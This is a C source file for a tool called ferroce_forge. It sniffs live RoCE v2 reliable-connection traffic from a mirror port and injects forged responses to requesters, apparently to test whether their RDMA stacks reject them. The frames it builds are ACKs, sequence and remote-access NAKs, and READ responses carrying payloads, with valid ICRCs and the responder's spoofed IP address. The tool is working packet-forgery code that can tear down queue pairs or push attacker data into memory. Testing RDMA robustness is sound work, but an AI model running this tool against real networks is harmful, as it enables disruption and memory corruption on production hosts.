// SPDX-License-Identifier: GPL-2.0
/*
 * ferroce_forge: a hostile host on the segment of live RoCE v2 RC connections.
 *
 *   ferroce_forge [-i IFACE] [-n FRAMES] [-t SECONDS] [-q QUIET_SECONDS]
 *
 * It sits on a mirror port (it sees every frame between the other hosts), learns each RC
 * connection from the responses that cross the wire (an ACK, atomic ACK or READ response names
 * the requester's QP and a PSN of its window), and answers in the responder's place with
 * frames the requester must not believe:
 *
 *   ack-ahead      an ACK from the responder's address for a PSN far past what was sent
 *   nak-ahead      a PSN sequence NAK, same
 *   access-ahead   a remote access error NAK, same (believed, it would end the QP)
 *   read-ahead     a READ response with a payload, same (believed, it would land in memory)
 *   ack-stranger   an ACK inside the window, from this host's own address
 *   access-stranger a remote access NAK inside the window, from this host's address
 *   read-stranger  a READ response inside the window, from this host's address
 *   bad-icrc       an ACK inside the window from the responder's address, with a wrong ICRC
 *
 * The frames carry this host's MAC (a switch must not learn the responder's MAC here) and a
 * correct ICRC unless said. An in-window frame from the responder's own address and a right
 * ICRC is not sent: RoCE has no authentication, and such a frame is the responder's for all a
 * NIC can tell (MACsec or IPsec is what stops an attacker on the path).
 *
 * It stops after FRAMES forged frames, after SECONDS, on SIGTERM or SIGINT (the attacked
 * hosts are done), or once no RoCE frame has crossed the wire for QUIET_SECONDS after some
 * did, then prints one line per kind and
 *   forge: N frames forged against C connections, S RoCE frames seen
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ROCE_PORT 4791
#define ETH_LEN 14
#define IP_LEN 20
#define UDP_LEN 8
#define BTH_LEN 12
#define AETH_LEN 4
#define HDRS (ETH_LEN + IP_LEN + UDP_LEN)
#define PSN_MASK 0xffffff
#define MAX_CONNS 32
#define READ_PAYLOAD 64

/* RC opcodes (IBA 9.2): the responses a requester takes. */
#define OP_READ_RESP_FIRST 0x0d
#define OP_READ_RESP_LAST 0x0f
#define OP_READ_RESP_ONLY 0x10
#define OP_ACK 0x11
#define OP_ATOMIC_ACK 0x12

#define AETH_ACK 0x1f		/* ACK, no credit count */
#define AETH_NAK_SEQ 0x60	/* NAK: PSN sequence error */
#define AETH_NAK_ACCESS 0x62	/* NAK: remote access error */

enum kind {
	ACK_AHEAD, NAK_AHEAD, ACCESS_AHEAD, READ_AHEAD, ACK_STRANGER, ACCESS_STRANGER,
	READ_STRANGER, BAD_ICRC, NUM_KINDS
};

static const char *const kind_names[NUM_KINDS] = {
	"ack-ahead", "nak-ahead", "access-ahead", "read-ahead", "ack-stranger",
	"access-stranger", "read-stranger", "bad-icrc",
};

/* What a response across the wire told of one connection, requester side. */
struct conn {
	uint8_t requester_mac[6];
	uint32_t requester_ip, responder_ip;	/* network order */
	uint16_t udp_sport;			/* network order */
	uint16_t pkey;				/* network order */
	uint32_t qpn;				/* the requester's QP */
	uint32_t psn;				/* the latest PSN a response named */
	uint32_t msn;
};

static struct conn conns[MAX_CONNS];
static int nconns;
static long forged[NUM_KINDS];
static uint8_t own_mac[6];
static uint32_t own_ip;

static uint32_t crc_table[256];

static void crc_init(void)
{
	for (uint32_t i = 0; i < 256; i++) {
		uint32_t c = i;

		for (int k = 0; k < 8; k++)
			c = c & 1 ? 0xedb88320 ^ (c >> 1) : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t crc_update(uint32_t crc, const uint8_t *p, size_t len)
{
	while (len--)
		crc = crc_table[(crc ^ *p++) & 0xff] ^ (crc >> 8);
	return crc;
}

/*
 * The ICRC of a RoCE v2 IPv4 packet (IBA annex A17.3.3): CRC-32 over eight 0xff bytes, the IP
 * and UDP headers and the BTH with the variant fields as ones (TOS, TTL, IP checksum, UDP
 * checksum, BTH resv8a), then the rest.
 */
static uint32_t icrc(const uint8_t *ip, size_t len)
{
	uint8_t masked[IP_LEN + UDP_LEN + BTH_LEN];
	static const uint8_t ones[8] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	uint32_t crc = 0xffffffff;

	memcpy(masked, ip, sizeof(masked));
	masked[1] = 0xff;
	masked[8] = 0xff;
	masked[10] = masked[11] = 0xff;
	masked[IP_LEN + 6] = masked[IP_LEN + 7] = 0xff;
	masked[IP_LEN + UDP_LEN + 4] = 0xff;
	crc = crc_update(crc, ones, sizeof(ones));
	crc = crc_update(crc, masked, sizeof(masked));
	crc = crc_update(crc, ip + sizeof(masked), len - sizeof(masked));
	return ~crc;
}

static uint16_t ip_checksum(const uint8_t *h)
{
	uint32_t sum = 0;

	for (int i = 0; i < IP_LEN; i += 2)
		sum += (uint32_t)h[i] << 8 | h[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put24(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 16);
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)v;
}

static uint32_t get24(const uint8_t *p)
{
	return (uint32_t)p[0] << 16 | (uint32_t)p[1] << 8 | p[2];
}

/* Learns or refreshes the connection a response from the wire belongs to. */
static void learn(const uint8_t *frame, size_t len)
{
	const uint8_t *ip = frame + ETH_LEN, *udp = ip + IP_LEN, *bth = udp + UDP_LEN;
	uint8_t opcode;
	uint32_t qpn, requester_ip;
	struct conn *c = NULL;

	if (len < HDRS + BTH_LEN + 4)
		return;
	opcode = bth[0];
	if (opcode < OP_READ_RESP_FIRST || opcode > OP_ATOMIC_ACK)
		return;
	qpn = get24(bth + 5);
	memcpy(&requester_ip, ip + 16, 4);
	if (requester_ip == own_ip)
		return;
	for (int i = 0; i < nconns; i++)
		if (conns[i].qpn == qpn && conns[i].requester_ip == requester_ip)
			c = &conns[i];
	if (!c) {
		if (nconns == MAX_CONNS)
			return;
		c = &conns[nconns++];
		c->qpn = qpn;
		c->requester_ip = requester_ip;
	}
	memcpy(c->requester_mac, frame, 6);
	memcpy(&c->responder_ip, ip + 12, 4);
	memcpy(&c->udp_sport, udp, 2);
	memcpy(&c->pkey, bth + 2, 2);
	c->psn = get24(bth + 9);
	if (opcode != 0x0e && len >= HDRS + BTH_LEN + AETH_LEN + 4)
		c->msn = get24(bth + BTH_LEN + 1);
}

/* Builds a forged response of `kind` to connection c in buf; returns its length. */
static size_t forge(const struct conn *c, enum kind kind, uint8_t *buf)
{
	uint8_t *eth = buf, *ip = eth + ETH_LEN, *udp = ip + IP_LEN, *bth = udp + UDP_LEN;
	bool stranger = kind == ACK_STRANGER || kind == ACCESS_STRANGER || kind == READ_STRANGER;
	bool ahead = kind <= READ_AHEAD;
	bool read = kind == READ_AHEAD || kind == READ_STRANGER;
	uint8_t syndrome = AETH_ACK;
	size_t payload = read ? READ_PAYLOAD : 0;
	size_t ip_len = IP_LEN + UDP_LEN + BTH_LEN + AETH_LEN + payload + 4;
	uint32_t psn = ahead ? c->psn + 0x400000 : c->psn + 1;
	uint32_t crc;

	if (kind == NAK_AHEAD)
		syndrome = AETH_NAK_SEQ;
	if (kind == ACCESS_AHEAD || kind == ACCESS_STRANGER)
		syndrome = AETH_NAK_ACCESS;
	memset(buf, 0, ETH_LEN + ip_len);
	memcpy(eth, c->requester_mac, 6);
	memcpy(eth + 6, own_mac, 6);
	eth[12] = 0x08;
	ip[0] = 0x45;
	ip[2] = (uint8_t)(ip_len >> 8);
	ip[3] = (uint8_t)ip_len;
	ip[6] = 0x40;		/* don't fragment */
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	memcpy(ip + 12, stranger ? &own_ip : &c->responder_ip, 4);
	memcpy(ip + 16, &c->requester_ip, 4);
	{
		uint16_t sum = ip_checksum(ip);

		ip[10] = (uint8_t)(sum >> 8);
		ip[11] = (uint8_t)sum;
	}
	memcpy(udp, &c->udp_sport, 2);
	udp[2] = ROCE_PORT >> 8;
	udp[3] = ROCE_PORT & 0xff;
	udp[4] = (uint8_t)((ip_len - IP_LEN) >> 8);
	udp[5] = (uint8_t)(ip_len - IP_LEN);
	bth[0] = read ? OP_READ_RESP_ONLY : OP_ACK;
	memcpy(bth + 2, &c->pkey, 2);
	put24(bth + 5, c->qpn);
	put24(bth + 9, psn & PSN_MASK);
	bth[BTH_LEN] = syndrome;
	put24(bth + BTH_LEN + 1, c->msn + 1);
	memset(bth + BTH_LEN + AETH_LEN, 0xa5, payload);
	crc = icrc(ip, ip_len - 4);
	if (kind == BAD_ICRC)
		crc ^= 0x1;
	/* The ICRC goes least significant byte first. */
	for (int i = 0; i < 4; i++)
		ip[ip_len - 4 + i] = (uint8_t)(crc >> (8 * i));
	return ETH_LEN + ip_len;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int own_addresses(int fd, const char *iface)
{
	struct ifreq ifr = { 0 };

	strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
		return -1;
	memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
	if (ioctl(fd, SIOCGIFADDR, &ifr) < 0)
		return -1;
	own_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
	return 0;
}

static volatile sig_atomic_t stopping;

static void stop(int sig)
{
	(void)sig;
	stopping = 1;
}

int main(int argc, char **argv)
{
	const char *iface = "eth0";
	long max_frames = 4000, seen = 0, total = 0;
	int seconds = 300, quiet = 15, opt, fd, udp;
	double start, last_seen = 0, last_forge = 0;
	struct sockaddr_ll addr = { 0 };
	struct packet_mreq mreq = { 0 };
	uint8_t frame[9216], out[256];
	unsigned int next_kind = 0;

	while ((opt = getopt(argc, argv, "i:n:t:q:")) != -1) {
		switch (opt) {
		case 'i': iface = optarg; break;
		case 'n': max_frames = atol(optarg); break;
		case 't': seconds = atoi(optarg); break;
		case 'q': quiet = atoi(optarg); break;
		default:
			fprintf(stderr, "usage: %s [-i IFACE] [-n FRAMES] [-t SECONDS] [-q QUIET_SECONDS]\n",
				argv[0]);
			return 2;
		}
	}
	crc_init();
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	udp = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || udp < 0 || own_addresses(udp, iface) < 0) {
		perror("socket");
		return 2;
	}
	addr.sll_family = AF_PACKET;
	addr.sll_protocol = htons(ETH_P_ALL);
	addr.sll_ifindex = (int)if_nametoindex(iface);
	mreq.mr_ifindex = addr.sll_ifindex;
	mreq.mr_type = PACKET_MR_PROMISC;
	if (bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mreq, sizeof(mreq)) < 0) {
		perror("bind");
		return 2;
	}
	/* No SA_RESTART: the signal ends poll() at once (EINTR). */
	sigaction(SIGTERM, &(struct sigaction){ .sa_handler = stop }, NULL);
	sigaction(SIGINT, &(struct sigaction){ .sa_handler = stop }, NULL);
	printf("forge: listening on %s\n", iface);
	fflush(stdout);
	start = now();
	while (!stopping && total < max_frames && now() - start < seconds) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		ssize_t len;

		if (last_seen && now() - last_seen > quiet)
			break;
		if (poll(&pfd, 1, 100) <= 0)
			continue;
		len = recv(fd, frame, sizeof(frame), MSG_DONTWAIT);
		/* IPv4 without options (the offsets below assume a 20-byte header), UDP to 4791. */
		if (len < HDRS + BTH_LEN || frame[12] != 0x08 || frame[13] != 0x00 ||
		    frame[ETH_LEN] != 0x45 || frame[ETH_LEN + 9] != IPPROTO_UDP ||
		    (frame[ETH_LEN + IP_LEN + 2] << 8 | frame[ETH_LEN + IP_LEN + 3]) != ROCE_PORT)
			continue;
		/* Our own frames come back on a packet socket: not the wire's. */
		if (!memcmp(frame + 6, own_mac, 6))
			continue;
		seen++;
		last_seen = now();
		learn(frame, (size_t)len);
		/* At most one forged frame per 2 ms: the VMs under attack share the CPU. */
		if (!nconns || last_seen - last_forge < 0.002)
			continue;
		last_forge = last_seen;
		{
			const struct conn *c = &conns[total % nconns];
			enum kind kind = (enum kind)(next_kind++ % NUM_KINDS);
			size_t n = forge(c, kind, out);

			if (send(fd, out, n, 0) == (ssize_t)n) {
				forged[kind]++;
				total++;
			}
		}
	}
	for (int k = 0; k < NUM_KINDS; k++)
		printf("forged %-16s %ld\n", kind_names[k], forged[k]);
	for (int i = 0; i < nconns; i++) {
		char req[INET_ADDRSTRLEN], resp[INET_ADDRSTRLEN];

		inet_ntop(AF_INET, &conns[i].requester_ip, req, sizeof(req));
		inet_ntop(AF_INET, &conns[i].responder_ip, resp, sizeof(resp));
		printf("connection %s QP %u (responder %s), last PSN 0x%06x\n", req, conns[i].qpn,
		       resp, conns[i].psn);
	}
	printf("forge: %ld frames forged against %d connections, %ld RoCE frames seen\n", total,
	       nconns, seen);
	return 0;
}
